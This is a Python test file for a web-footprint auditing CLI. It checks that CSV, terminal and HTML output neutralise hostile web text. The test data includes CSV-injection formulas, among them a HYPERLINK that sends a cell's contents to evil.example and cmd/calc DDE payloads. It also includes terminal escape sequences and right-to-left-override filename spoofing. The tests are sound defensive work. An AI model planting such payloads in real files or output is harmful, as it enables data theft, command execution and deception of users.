"""Text from the web is inert in every output: CSV a spreadsheet opens, the terminal, HTML."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from footprint.cli import app
from footprint.records import csv_cell
from footprint.store import Store
from search_providers.base import BIDI_MARK, inert_text, inert_url
from tests.page_server import PageServer, Reply, html
from tests.store_support import finding, save_audit

# Cells a spreadsheet would run (OWASP "CSV Injection").
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(app, list(args))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _results_file(tmp_path: Path, urls: list[str]) -> Path:
    rows = [
        {"url": url, "title": formula, "snippet": formula, "query": formula}
        for url, formula in zip(urls, FORMULAS, strict=False)
    ]
    path = tmp_path / "results.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _assert_inert(text: str) -> None:
    cells = _cells(text)
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:  # still there, shown as text (a leading blank may be trimmed)
        assert "'" + formula in cells or "'" + formula.lstrip() in cells


def test_csv_cell_follows_the_owasp_rule() -> None:
    assert [csv_cell(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert csv_cell("Laura Hietanen – sosiaaliohjaaja") == "Laura Hietanen – sosiaaliohjaaja"
    assert csv_cell("") == "" and csv_cell("https://a.example/=x") == "https://a.example/=x"


def test_classify_csv_is_inert_and_json_untouched(tmp_path: Path) -> None:
    urls = [f"https://site{i}.example/p" for i in range(len(FORMULAS))]
    path = _results_file(tmp_path, urls)
    as_csv = run("classify", str(path), "--name", "Laura Hietanen", "--offline", "-f", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    _assert_inert(as_csv.stdout)
    as_json = run("classify", str(path), "--name", "Laura Hietanen", "--offline", "-f", "json")
    titles = [r["title"].strip() for r in json.loads(as_json.stdout)]
    assert titles == [f.strip() for f in FORMULAS]  # as they came, no quote added


@pytest.mark.usefixtures("allow_loopback")
def test_check_csv_is_inert(tmp_path: Path) -> None:
    with PageServer() as server:
        server.route("/p", Reply(body=html(FORMULAS[0], "<p>" + "sana " * 300 + "</p>")))
        path = _results_file(tmp_path, [server.url("/p")])
        out = run("check", str(path), "-f", "csv", "--archive", "none")
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert rows[0]["status"] == "live" and rows[0]["page_title"] == "'" + FORMULAS[0]
    assert not [c for c in _cells(out.stdout) if c.startswith(FORMULA_STARTS)]


def test_export_csv_is_inert_and_json_untouched(_isolated_home: Path) -> None:
    with Store.open() as store:
        found = [
            finding(f"https://site{i}.example/p", "work", "live", title=formula)
            for i, formula in enumerate(FORMULAS)
        ]
        save_audit(store, "Laura Hietanen", found)
    as_csv = run("export", "latest", "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    _assert_inert(as_csv.stdout)
    as_json = run("export", "latest", "--format", "json")
    titles = sorted(r["title"].strip() for r in json.loads(as_json.stdout))
    assert titles == sorted(f.strip() for f in FORMULAS)  # as they came, no quote added


# --- control characters and bidi controls (issue 12, item 15) ---------------------------

# A title that clears the screen, sets a hyperlink, and hides a NUL; a snippet whose
# right-to-left override makes "gpj.exe" read "exe.jpg"; an address that reads backwards.
ESCAPES = "\x1b[2J\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x00\x9b31m"
HOSTILE = {
    "url": "https://evil.example/\u202egpj.exe",
    "title": f"Laura Hietanen {ESCAPES} \u2066isolated\u2069",
    "snippet": "Kuva: \u202egpj.exe\r\nrivi\x07kaksi",
    "query": '"Laura Hietanen"',
}
UNSAFE = ("\x00", "\x07", "\x1b", "\x9b", "\u202e", "\u2066", "\u2069")


def _hostile_file(tmp_path: Path, url: str | None = None) -> Path:
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps({**HOSTILE, "url": url or HOSTILE["url"]}) + "\n", "utf-8")
    return path


def _assert_clean(text: str) -> None:
    assert not [c for c in UNSAFE if c in text], [c for c in UNSAFE if c in text]
    assert BIDI_MARK in text or "%E2%80%AE" in text  # the override is shown, not obeyed


def test_inert_text_drops_controls_and_shows_bidi() -> None:
    assert inert_text("a\x1b[31mb\x00c\u202ed\u2066e") == f"a[31mbc{BIDI_MARK}d{BIDI_MARK}e"
    assert inert_text("one\ttwo\r\nthree") == "one two  three"
    assert inert_text("one\ttwo\r\nthree\rfour", lines=True) == "one\ttwo\nthree\nfour"
    assert inert_text("Hietanen – ÅÄÖ åäö ‘’ …") == "Hietanen – ÅÄÖ åäö ‘’ …"
    assert inert_url("https://a.fi/\u202egpj.exe\x1b") == "https://a.fi/%E2%80%AEgpj.exe%1B"


@pytest.mark.usefixtures("allow_loopback")
def test_the_check_table_shows_no_escape_sequence(tmp_path: Path) -> None:
    with PageServer() as server:
        body = html(f"Sivu {ESCAPES} \u202eotoh", "<p>" + "sana " * 300 + "</p>")
        server.route("/p", Reply(body=body))
        path = _hostile_file(tmp_path, server.url("/p") + "?\x1b[2J\x1b]0;pwned\x07=\u202eexe")
        table = run("check", str(path), "--archive", "none")
        as_csv = run("check", str(path), "-f", "csv", "--archive", "none")
    assert table.exit_code == 0, table.output
    assert "live" in table.stdout and "/p?%1B[2J%1B]0;pwned%07=%E2%80%AEexe" in table.stdout
    _assert_clean(table.stdout)
    _assert_clean(as_csv.stdout)
    assert "Sivu [2J]8;;https://evil.example" in as_csv.stdout  # the page title, inert


def test_the_html_report_and_csv_carry_no_control_characters(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    out = run(
        "audit", "Laura Hietanen", "--from", str(path), "--offline",
        "--output", str(tmp_path / "r.pdf"), "--html", str(tmp_path / "r.html"),
    )  # fmt: skip
    assert out.exit_code == 0, out.output
    page = (tmp_path / "r.html").read_text("utf-8")
    _assert_clean(page)
    assert "%E2%80%AEgpj.exe" in page  # the address, visibly as it is
    as_csv = run("classify", str(path), "--name", "Laura Hietanen", "--offline", "-f", "csv")
    _assert_clean(as_csv.stdout)
    assert f"Kuva: {BIDI_MARK}gpj.exe" in as_csv.stdout
